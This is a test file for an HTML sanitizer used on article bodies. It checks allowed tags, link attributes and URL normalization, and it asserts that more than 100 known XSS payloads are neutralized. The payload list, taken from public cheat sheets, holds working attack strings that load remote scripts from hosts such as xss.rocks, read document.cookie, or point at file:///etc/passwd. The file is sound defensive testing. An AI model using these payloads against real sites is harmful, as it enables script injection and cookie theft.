import { describe, expect, it } from 'vitest';
import { HtmlSanitizeError, sanitizeHtml } from '../../../src/content/sanitize';

const REL = 'rel="noopener noreferrer nofollow"';
const SHA = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';

describe('sanitizeHtml: what survives', () => {
  it('keeps an allowed article body unchanged apart from the rel it adds to links', async () => {
    const body = [
      '<h2>Deployment talks</h2>',
      '<p>Kenya &amp; Haiti <strong>set up</strong> ties, <em>officials said</em>.<br>More at <a href="https://example.com/story?id=1&amp;ref=2">the story</a>.</p>',
      '<h3>What we know</h3><ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>',
      '<blockquote><p>“We are ready,” he said.</p></blockquote>',
      '<h4>Photo</h4>',
      `<figure><img src="/media/${SHA}" alt="Officials meet"><figcaption>Nairobi, 2023</figcaption></figure>`,
      '<figure><img src="https://images.example.org/a.jpg" alt=""></figure>',
    ].join('\n');
    expect(await sanitizeHtml(body)).toBe(body.replace('<a href="https://example.com/story?id=1&amp;ref=2">', `<a href="https://example.com/story?id=1&amp;ref=2" ${REL}>`));
  });

  it('adds rel to every link, drops target and other attributes, keeps mailto', async () => {
    expect(await sanitizeHtml('<a href="https://x.example/" target="_blank" class="c" rel="opener">x</a>')).toBe(`<a href="https://x.example/" ${REL}>x</a>`);
    expect(await sanitizeHtml('<a href="mailto:desk@byline.example?subject=Tip">tips</a>')).toBe(`<a href="mailto:desk@byline.example?subject=Tip" ${REL}>tips</a>`);
    expect(await sanitizeHtml('<a name="top">anchor</a>')).toBe(`<a ${REL}>anchor</a>`);
  });

  it('keeps the text of a link whose href is unsafe or relative, but not the href', async () => {
    expect(await sanitizeHtml('<a href="javascript:alert(1)">click</a>')).toBe(`<a ${REL}>click</a>`);
    expect(await sanitizeHtml('<a href="/v1/articles/x">rel</a>')).toBe(`<a ${REL}>rel</a>`);
  });

  it('keeps /media/ and http(s) images, always with an alt, and removes images without a safe src', async () => {
    expect(await sanitizeHtml(`<img src="/media/${SHA}" width="10">`)).toBe(`<img src="/media/${SHA}" alt="">`);
    expect(await sanitizeHtml('<img src="HTTPS://Images.Example.org/a b.jpg" alt=\'say "hi"\'>')).toBe('<img src="https://images.example.org/a%20b.jpg" alt="say &quot;hi&quot;">');
    expect(await sanitizeHtml('<p>a<img>b<img src="/media/../admin">c<img src="media/x">d<img src="//evil.example/x.png">e</p>')).toBe('<p>abcde</p>');
  });

  it('unwraps other elements and keeps their text, renaming b, i, h1, h5 and h6', async () => {
    expect(await sanitizeHtml('<div class="x"><span style="color:red">Hello</span> <font>world</font><table><tr><td>cell</td></tr></table></div>')).toBe('Hello worldcell');
    expect(await sanitizeHtml('<h1>A</h1><b>B</b><i>I</i><h5>5</h5><h6>6</h6>')).toBe('<h2>A</h2><strong>B</strong><em>I</em><h4>5</h4><h4>6</h4>');
  });

  it('removes script, style, iframe, svg and form together with their content', async () => {
    const html = '<p>a</p><script>alert(1)</script><style>p{}</style><iframe src="https://x.example/">in</iframe><svg><text>s</text></svg><form><p>form text</p><input value="v"></form><p>b</p>';
    expect(await sanitizeHtml(html)).toBe('<p>a</p><p>b</p>');
  });

  it('keeps the body of a pasted whole document, even with its end tags omitted', async () => {
    expect(await sanitizeHtml('<!doctype html><html><head><meta charset="utf-8"><title>T</title><link rel="stylesheet" href="x.css"><body><p>Ça va — 🙂</p>')).toBe('<p>Ça va — 🙂</p>');
  });

  it('removes comments, the doctype and stray end tags, and escapes stray angle brackets in text', async () => {
    expect(await sanitizeHtml('<!DOCTYPE html><!-- note --><p>a<!-- x -->b</p></div onclick="x">')).toBe('<p>ab</p>');
    expect(await sanitizeHtml('<p>1 < 2 > 0 &lt;ok&gt; AT&T</p>')).toBe('<p>1 &lt; 2 &gt; 0 &lt;ok&gt; AT&T</p>');
  });

  it('normalizes tag case and URLs, and strips credentials from links', async () => {
    expect(await sanitizeHtml('<P><A HREF=" HTTPS://User:pw@Example.COM/a?b=1&c=2 ">x</A></P>')).toBe(`<p><a href="https://example.com/a?b=1&amp;c=2" ${REL}>x</a></p>`);
  });

  it('is idempotent', async () => {
    const inputs = [
      '<p>Kenya &amp; Haiti <a href="https://x.example/?a=1&amp;b=&quot;2">l</a> <img src="/media/a&amp;b" alt="a &amp; &quot;b&quot; <c>"></p>',
      '<div><p>x<strong>y</p>z</strong> 1 < 2 <b>bold</b></div><script>x</script>',
      ...PAYLOADS.map(([, html]) => html),
    ];
    for (const html of inputs) {
      const once = await sanitizeHtml(html);
      expect(await sanitizeHtml(once), html).toBe(once);
    }
  });
});

/** Known XSS vectors: OWASP XSS Filter Evasion Cheat Sheet, html5sec.org, PortSwigger's cheat sheet, mXSS papers. */
const PAYLOADS: ReadonlyArray<readonly [name: string, html: string]> = [
  ['script src', '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>'],
  ['img javascript: src', `<IMG SRC="javascript:alert('XSS');">`],
  ['img src without quotes or semicolon', `<IMG SRC=javascript:alert('XSS')>`],
  ['case-varied JaVaScRiPt', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['&quot; entities in the script', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ['grave accent quoting', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['a onmouseover, quoted', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['a onmouseover, unquoted', '<a onmouseover=alert(document.cookie)>xxs link</a>'],
  ['malformed img with script', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['img src=# onmouseover', `<IMG SRC=# onmouseover="alert('xxs')">`],
  ['img with empty src and onmouseover', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['img with no src and onmouseover', `<IMG onmouseover="alert('xxs')">`],
  ['img onerror with closing tag', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['img src=x onerror', '<img src=x onerror=alert(1)>'],
  ['safe img with onerror', `<img src="/media/${SHA}" onerror="alert(1)" style="x">`],
  ['decimal-encoded onerror', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'],
  ['decimal references with semicolons', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['padded decimal references without semicolons', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex references without semicolons', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['hex references in a link', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
  ['decimal colon without semicolon in a link', '<a href="javascript&#58alert(1)">x</a>'],
  ['one decimal letter without semicolon', '<a href="&#106avascript:alert(1)">x</a>'],
  ['named &colon;', '<a href="javascript&colon;alert(1)">x</a>'],
  ['named &Tab; and &NewLine;', '<a href="java&Tab;script&NewLine;:alert(1)">x</a>'],
  ['named &colon; &lpar; &rpar; unquoted', '<a href=javascript&colon;alert&lpar;1&rpar;>x</a>'],
  ['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['encoded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['encoded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['embedded newline in a link', '<a href="java\nscript:alert(1)">x</a>'],
  ['null byte in the scheme', '<IMG SRC=java\u0000script:alert("XSS")>'],
  ['null byte in a link scheme', '<a href="java\u0000script:alert(1)">x</a>'],
  ['control character before the scheme', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['spaces and meta characters before the scheme', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['leading spaces in a link', '<a href="  javascript:alert(1)">x</a>'],
  ['script with non-alpha separator', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['body with odd attribute name', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['script/src', '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['script without closing tag', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'],
  ['protocol-relative script', '<SCRIPT SRC=//xss.rocks/.j>'],
  ['half-open img', '<IMG SRC="`<javascript:alert>`(\'XSS\')"'],
  ['iframe with double open angle', '<iframe src=http://xss.rocks/scriptlet.html <'],
  ['closing title first', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['input type image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['body background', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['body onload', `<BODY ONLOAD=alert('XSS')>`],
  ['body/onload', '<body/onload=alert(1)>'],
  ['img dynsrc', `<IMG DYNSRC="javascript:alert('XSS')">`],
  ['img lowsrc', `<IMG LOWSRC="javascript:alert('XSS')">`],
  ['style list-style-image', `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ['vbscript img', `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['svg/onload', `<svg/onload=alert('XSS')>`],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['xlink:href on an html link', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['svg use with data: href', `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x" />`],
  ['bgsound', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['& JavaScript include', `<BR SIZE="&{alert('XSS')}">`],
  ['link stylesheet', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['style @import', `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`],
  ['meta refresh javascript', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ['meta refresh data:', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ['meta charset utf-7', '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi'],
  ['iframe javascript: src', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['iframe onmouseover', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['frameset', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['table background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ['td background', `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
  ['div background-image url(javascript:)', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  ['div background-image with css escapes', `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`],
  ['css expression', `<DIV STYLE="width: expression(alert('XSS'));">`],
  ['IE conditional comment', `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
  ['base href', `<BASE HREF="javascript:alert('XSS');//">`],
  ['object data', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'],
  ['object javascript: data', '<object data="javascript:alert(1)">'],
  ['embed', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'],
  ['embed javascript: src', '<embed src="javascript:alert(1)">'],
  ['quote-encapsulated script attribute', '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['script with unnamed attribute', '<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['script with mixed quotes', `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ['script split by document.write', '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data:image/svg+xml img', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['file: img', '<img src="file:///etc/passwd">'],
  ['protocol-relative img', '<img src="//evil.example/x.png">'],
  ['backslash protocol-relative img', '<img src="/\\evil.example/x.png">'],
  ['credentials hiding a scheme', '<a href="http://javascript:alert(1)@evil.example/">x</a>'],
  ['mXSS math/mglyph/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['mXSS math href', '<math href="javascript:alert(1)">CLICKME</math>'],
  ['mXSS noscript title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mXSS svg style', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['CDATA outside foreign content', '<div><![CDATA[<img src=x onerror=alert(1)>]]></div>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['form action with button', '<form action=javascript:alert(1)><button>x</button></form>'],
  ['button formaction', '<form><button formaction=javascript:alert(1)>X</button>'],
  ['input autofocus onfocus', '<input onfocus=alert(1) autofocus>'],
  ['keygen autofocus onfocus', '<keygen autofocus onfocus=alert(1)>'],
  ['details open ontoggle', '<details open ontoggle=alert(1)>'],
  ['dialog onclose', '<dialog open onclose=alert(1)>x</dialog>'],
  ['a tabindex onfocus', '<a id=x tabindex=1 onfocus=alert(1)></a>'],
  ['video source onerror', '<video><source onerror=alert(1)>'],
  ['audio src/onerror', '<audio src/onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['isindex image', '<isindex type=image src=1 onerror=alert(1)>'],
  ['image alias of img', '<image src=x onerror=alert(1)>'],
  ['img using alt in onerror', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['link with target and onclick', '<a href="https://ok.example/" target="_blank" onclick="alert(1)">x</a>'],
  ['quoted garbage attribute on a link', '<a href="https://ok.example/" "onmouseover=alert(1)">x</a>'],
  ['unclosed img at end of input', '<img src=x onerror=alert(1)//'],
  ['nested script tag names', '<scr<script>ipt>alert(1)</script>'],
  ['comment hiding an img', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['title', '<title><img src=x onerror=alert(1)></title>'],
  ['textarea', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['style with markup inside', '<style><img src=x onerror=alert(1)></style>'],
  ['self-closed script', '<script/><img src=x onerror=alert(1)></script>'],
  ['stray end tag with attributes', '</a href="javascript:alert(1)" onclick=alert(1)>x</p style="x">'],
  ['p style expression', '<p style="x:expression(alert(1))">x</p>'],
  ['portal', '<portal src="https://evil.example/"></portal>'],
];

const TAGS = new Set(['p', 'h2', 'h3', 'h4', 'a', 'strong', 'em', 'ul', 'ol', 'li', 'blockquote', 'figure', 'img', 'figcaption', 'br']);
const ATTRIBUTES = new Set(['a[href]', 'a[rel]', 'img[src]', 'img[alt]']);
const SAFE_PREFIXES: Record<string, readonly string[]> = { href: ['https://', 'http://', 'mailto:'], src: ['https://', 'http://', '/media/'] };

/** A deliberately small decoder, independent of the sanitizer's: numeric references and a few named ones. */
function decode(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Math.min(parseInt(hex, 16), 0x10ffff)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Math.min(parseInt(dec, 10), 0x10ffff)))
    .replace(/&colon;/gi, ':').replace(/&tab;/gi, '\t').replace(/&newline;/gi, '\n');
}

interface Parsed { tags: string[]; attributes: Array<[string, string, string]>; comments: number }

/** What a fresh HTMLRewriter pass sees in the output. */
async function reparse(html: string): Promise<Parsed> {
  const parsed: Parsed = { tags: [], attributes: [], comments: 0 };
  const rewriter = new HTMLRewriter()
    .on('*', { element(element) { parsed.tags.push(element.tagName); for (const [name, value] of element.attributes) parsed.attributes.push([element.tagName, name!, value!]); } })
    .onDocument({ comments() { parsed.comments += 1; }, doctype() { parsed.comments += 1; } });
  await rewriter.transform(new Response(html)).text();
  return parsed;
}

/** Raw-text tags where lol-html cannot tell how a browser would tokenize what follows: it refuses. */
const AMBIGUOUS: ReadonlyArray<readonly [name: string, html: string]> = [
  ['mXSS select/template/style', '<select><template><style><img src=x onerror=alert(1)></style></template></select>'],
  ['style inside select', '<select><style></select><img src=x onerror=alert(1)></style>'],
  ['script after frameset', '<frameset></frameset><script>alert(1)</script>'],
];

describe('sanitizeHtml: markup it refuses', () => {
  for (const [name, payload] of AMBIGUOUS) {
    it(`rejects ambiguous ${name} with HtmlSanitizeError rather than guessing`, async () => {
      await expect(sanitizeHtml(payload)).rejects.toThrow(HtmlSanitizeError);
    });
  }
});

describe('sanitizeHtml: known XSS payloads', () => {
  it(`covers at least 60 payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
    expect(new Set(PAYLOADS.map(([name]) => name)).size).toBe(PAYLOADS.length);
  });

  for (const [name, payload] of PAYLOADS) {
    it(`neutralizes ${name}`, async () => {
      const out = await sanitizeHtml(payload);
      const { tags, attributes, comments } = await reparse(out);
      expect(tags.filter((tag) => !TAGS.has(tag)), out).toEqual([]);
      expect(comments, out).toBe(0);
      for (const [tag, attribute, value] of attributes) {
        expect(ATTRIBUTES.has(`${tag}[${attribute}]`), `${tag}[${attribute}] in ${out}`).toBe(true);
        const prefixes = SAFE_PREFIXES[attribute];
        if (prefixes) expect(prefixes.some((prefix) => decode(value).startsWith(prefix)), `${attribute}=${value}`).toBe(true);
        if (attribute === 'rel') expect(value).toBe('noopener noreferrer nofollow');
      }
      // Canonical form: every `<` starts a tag we could have written, so stray end tags cannot hide.
      const withoutTags = out.replace(/<\/?[a-z0-9]+(?: [a-z]+="[^"<>]*")*>/g, '');
      expect(withoutTags, out).not.toMatch(/[<>]/);
      const decoded = decode(out).replace(/[\u0000-\u0020]/g, '');
      expect(decoded, out).not.toMatch(/javascript:|vbscript:/i);
      expect(out).not.toMatch(/<script|<iframe|<svg|<style|<!--/i);
      expect(out).not.toMatch(/\son[a-z]+\s*=|style=/i);
    });
  }
});
